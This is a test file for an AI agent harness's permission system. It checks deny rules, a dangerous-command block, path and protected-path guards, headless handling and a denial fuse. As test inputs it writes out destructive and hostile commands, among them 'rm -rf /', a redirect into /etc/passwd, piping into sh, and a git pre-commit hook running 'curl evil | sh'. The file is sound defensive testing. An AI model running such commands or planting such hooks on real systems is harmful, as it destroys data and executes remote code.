/**
 * The permission chain wired into the pipeline, through the real SDK + msw:
 * every decision is a `permission_decision` event, refusals never reach the
 * tool body, and each defense is shown to matter by switching it off.
 * Dangerous commands run against a recording stand-in for bash, never a shell.
 */
import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { bashTool } from '../../src/harness/tools/bash.js';
import { builtinTools } from '../../src/harness/tools/builtin.js';
import { ToolRegistry } from '../../src/harness/tools/registry.js';
import { stopMockHub } from '../../src/mock/msw-hub.js';
import { recordingBash, runPipeline, type PipelineRunOptions } from './run-pipeline.js';
import { tempDir } from '../helpers/temp-dirs.js';

afterAll(() => stopMockHub());

function fakeShell(): { seen: string[]; registry: ToolRegistry } {
  const seen: string[] = [];
  const tools = builtinTools().map((t) => (t.name === 'bash' ? { ...bashTool, execute: recordingBash(seen) } : t));
  return { seen, registry: new ToolRegistry(tools) };
}

async function bashOnce(command: string, options: PipelineRunOptions = {}) {
  const shell = fakeShell();
  const run = await runPipeline([{ tool_use: [{ name: 'bash', input: { command } }] }, { text: 'done' }], { registry: shell.registry, ...options });
  return { run, seen: shell.seen, decision: run.of('permission_decision')[0]!, failure: run.of('tool_failure')[0] };
}

describe('permission stage', () => {
  it('lets a deny rule beat an allow rule that also matches', async () => {
    const rules = [
      { id: 'allow-all-bash', effect: 'allow' as const, tool: 'bash' },
      { id: 'no-rm', effect: 'deny' as const, tool: 'bash', pattern: 'rm *' },
    ];
    const { seen, decision, failure } = await bashOnce('rm notes.txt', { rules });
    expect(seen).toEqual([]);
    expect(decision).toMatchObject({ decision: 'deny', source: 'deny_rule', rule_id: 'no-rm', needed_prompt: false });
    expect(failure).toMatchObject({ failure_kind: 'permission_denied', error_code: 'no-rm' });
    const allowed = await bashOnce('ls', { rules });
    expect(allowed.decision).toMatchObject({ decision: 'allow', source: 'allow_rule' });
  });

  it('blocks rm -rf / in acceptEdits mode with the dangerous-command defense', async () => {
    const { seen, decision, run } = await bashOnce('rm -rf /', { mode: 'acceptEdits' });
    expect(seen).toEqual([]);
    expect(decision).toMatchObject({ decision: 'deny', source: 'dangerous_command', rule_id: 'danger:rm_critical' });
    expect(run.of('defense_trigger')).toMatchObject([{ defense: 'dangerous_command_block', action: 'block', tool: 'bash' }]);
    expect(run.results()[0]!.content).toMatch(/blocked/);
  });

  it('still refuses rm -rf / in bypass mode once the dangerous-command defense is off: the path guard refuses writes outside the workspace in every mode', async () => {
    const on = await bashOnce('rm -rf /', { mode: 'bypass' });
    expect(on.seen).toEqual([]);
    expect(on.decision).toMatchObject({ source: 'dangerous_command' });
    const off = await bashOnce('rm -rf /', { mode: 'bypass', disabledDefenses: ['dangerous_command_block'] });
    expect(off.seen).toEqual([]);
    expect(off.decision).toMatchObject({ decision: 'deny', source: 'path_guard' });
    expect(off.run.of('defense_trigger')).toEqual([]);
  });

  it.each([
    ['ls && rm -rf x', 'a compound command whose second part is not covered'],
    ['cat a > /etc/passwd', 'a redirection into a system file'],
    ['echo x | sh', 'a pipe into a shell'],
    ['echo $(curl x)', 'a command substitution'],
  ])('refuses `%s` (%s) even with allow rules for its first command', async (command) => {
    const rules = [
      { id: 'ls', effect: 'allow' as const, tool: 'bash', pattern: 'ls*' },
      { id: 'cat', effect: 'allow' as const, tool: 'bash', pattern: 'cat *' },
      { id: 'echo', effect: 'allow' as const, tool: 'bash', pattern: 'echo *' },
    ];
    const { seen, decision, failure } = await bashOnce(command, { rules });
    expect(seen).toEqual([]);
    expect(decision.decision).toBe('deny');
    expect(failure).toMatchObject({ failure_kind: 'permission_denied' });
  });

  it('refuses a write through a symlink that leads out of the workspace, and nothing is written outside', async () => {
    const outside = tempDir('faultline-outside-');
    const run = await runPipeline([{ tool_use: [{ name: 'write', input: { file_path: 'link/evil.txt', content: 'x' } }] }, { text: 'done' }], {
      mode: 'bypass',
      prepare: (ws) => symlinkSync(outside, join(ws, 'link')),
    });
    expect(run.of('permission_decision')[0]).toMatchObject({ decision: 'deny', source: 'path_guard', rule_id: 'outside' });
    expect(existsSync(join(outside, 'evil.txt'))).toBe(false);
  });

  it('refuses writing .git/hooks/pre-commit under bypass mode, and only because of the protected-path guard', async () => {
    const script = [{ tool_use: [{ name: 'write', input: { file_path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh\n' } }] }, { text: 'done' }];
    const prepare = (ws: string) => mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
    const on = await runPipeline(script, { mode: 'bypass', prepare });
    expect(on.of('permission_decision')[0]).toMatchObject({ decision: 'deny', source: 'protected_path', rule_id: 'protected:git_hooks' });
    expect(on.of('defense_trigger')).toMatchObject([{ defense: 'protected_path_guard', action: 'block', tool: 'write' }]);
    expect(existsSync(join(on.workspace, '.git/hooks/pre-commit'))).toBe(false);

    const off = await runPipeline(script, { mode: 'bypass', prepare, disabledDefenses: ['protected_path_guard'] });
    expect(existsSync(join(off.workspace, '.git/hooks/pre-commit'))).toBe(true);
  });

  it('still runs read-only work in a headless session in default mode (the read-only allow list is complete)', async () => {
    const run = await runPipeline(
      [
        {
          tool_use: [
            { name: 'read', input: { file_path: 'a.txt' } },
            { name: 'ls', input: {} },
            { name: 'glob', input: { pattern: '**/*.txt' } },
            { name: 'grep', input: { pattern: 'alpha' } },
            { name: 'bash', input: { command: 'cat a.txt | wc -l && ls -la && git status || true' } },
          ],
        },
        { text: 'done' },
      ],
      { mode: 'default', headless: true, files: { 'a.txt': 'alpha\n' } },
    );
    expect(run.of('permission_decision').map((d) => [d.tool, d.decision, d.source])).toEqual([
      ['read', 'allow', 'read_only'],
      ['ls', 'allow', 'read_only'],
      ['glob', 'allow', 'read_only'],
      ['grep', 'allow', 'read_only'],
      ['bash', 'allow', 'read_only'],
    ]);
    expect(run.of('tool_failure').filter((f) => f.failure_kind === 'permission_denied')).toEqual([]);
  });

  it('turns ask into deny when headless, with source default and needed_prompt true', async () => {
    const { seen, decision, run } = await bashOnce('touch made.txt', { mode: 'default', headless: true });
    expect(seen).toEqual([]);
    expect(decision).toMatchObject({ decision: 'deny', source: 'default', needed_prompt: true });
    expect(run.results()[0]!.content).toMatch(/headless/);
  });

  it('asks the (scripted) human when not headless and remembers an approval for the same call', async () => {
    const shell = fakeShell();
    const call = { name: 'bash', input: { command: 'touch made.txt' } };
    const run = await runPipeline([{ tool_use: [call] }, { tool_use: [call] }, { text: 'done' }], { registry: shell.registry, mode: 'default', headless: false, human: 'approve' });
    expect(run.of('permission_decision').map((d) => [d.decision, d.source, d.needed_prompt])).toEqual([
      ['allow', 'default', true],
      ['allow', 'session_memory', false],
    ]);
    expect(shell.seen).toHaveLength(2);
  });
});

describe('denial fuse', () => {
  const fiveTries = Array.from({ length: 5 }, () => ({ tool_use: [{ name: 'bash', input: { command: 'touch made.txt' } }] }));
  const script = [...fiveTries, { text: 'giving up' }];

  it('fires once per trip, not once per check, and later calls stop at the fuse', async () => {
    const shell = fakeShell();
    const run = await runPipeline(script, { registry: shell.registry, mode: 'default', fuseThreshold: 3 });
    expect(run.of('defense_trigger').filter((t) => t.defense === 'denial_fuse')).toHaveLength(1);
    expect(run.of('permission_decision').map((d) => d.source)).toEqual(['default', 'default', 'default', 'denial_fuse', 'denial_fuse']);
    expect(run.of('defense_stats').find((s) => s.defense === 'denial_fuse')).toMatchObject({ evaluated: 5, triggered: 1 });
    expect(run.results()[3]!.content).toMatch(/Stop retrying bash/);
    expect(shell.seen).toEqual([]);
  });

  it('counts refusals by the human on the ask path too', async () => {
    const run = await runPipeline(script, { registry: fakeShell().registry, mode: 'default', headless: false, human: 'refuse', fuseThreshold: 3 });
    expect(run.of('defense_trigger').filter((t) => t.defense === 'denial_fuse')).toHaveLength(1);
    expect(run.of('permission_decision').map((d) => [d.source, d.decision, d.needed_prompt])).toEqual([...Array(3).fill(['default', 'deny', true]), ['denial_fuse', 'deny', true], ['denial_fuse', 'deny', true]]);
  });

  it('never stops the retries when switched off', async () => {
    const run = await runPipeline(script, { registry: fakeShell().registry, mode: 'default', fuseThreshold: 3, disabledDefenses: ['denial_fuse'] });
    expect(run.of('defense_trigger').filter((t) => t.defense === 'denial_fuse')).toEqual([]);
    expect(run.of('permission_decision').map((d) => d.source)).not.toContain('denial_fuse');
  });
});
